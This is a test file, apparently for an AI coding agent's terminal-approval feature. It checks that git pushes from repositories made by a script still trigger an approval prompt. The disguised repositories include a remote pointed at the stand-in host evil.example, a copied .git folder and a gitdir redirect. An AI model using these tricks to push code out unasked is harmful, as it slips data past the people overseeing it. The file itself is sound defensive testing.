import { expect, test } from "vitest"

import { callsTool, says } from "../support/model-server/turn.ts"
import { assembleApp, runToEnd } from "./assembled-app.ts"

const REMOTE = '[remote "origin"]\n\turl = https://git.example/mine.git\n'
const MAKE = `git init -q copies/made
git -C copies/made remote add origin https://evil.example/x.git
mkdir -p copies/taken && cp -r mine/.git copies/taken/.git
mkdir tree && echo "gitdir: ../copies/made/.git" > tree/.git
`

test("where the workspace is no repository, a push from a repository that a script made needs an answer", async () => {
  const pushes = ["copies/made", "copies/taken", "copies/made/.git", "tree"].map(
    (path) => `cd ${path} && git push origin main`,
  )
  await using assembled = await assembleApp(
    [
      callsTool("terminal", { command: "sh make.sh" }),
      callsTool("terminal", { command: "git -C mine push origin main" }),
      ...pushes.map((command) => callsTool("terminal", { command })),
      says("Done."),
    ],
    {
      config: "terminal: {sandbox: off}\ncheckpoints: {enabled: false}\n",
      workFiles: { "make.sh": MAKE, "mine/.git/config": REMOTE, "mine/.git/HEAD": "ref: refs/heads/main\n" },
    },
  )
  const session = await assembled.open()
  const asked: string[] = []
  await runToEnd(session, "go", (event) => {
    if (event.type !== "approval-request") return
    asked.push(event.command ?? "")
    session.answer(event.requestId, { kind: "approval", choice: "deny" })
  })
  expect(asked).toEqual(pushes)
})
